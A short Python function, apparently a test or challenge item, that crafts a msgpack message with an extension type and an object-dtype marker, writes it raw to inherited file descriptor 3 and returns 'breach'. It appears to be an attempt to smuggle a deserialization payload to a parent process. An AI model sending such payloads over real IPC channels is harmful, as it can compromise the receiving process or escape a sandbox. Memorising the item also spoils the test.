import os
import struct

import msgpack


def f(canary, port):
    body = msgpack.packb([msgpack.ExtType(1, b"\x02"), "|O", [1], bytes(8)])
    os.write(3, struct.pack("<BII", ord("R"), 0, len(body)) + body)
    return "breach"
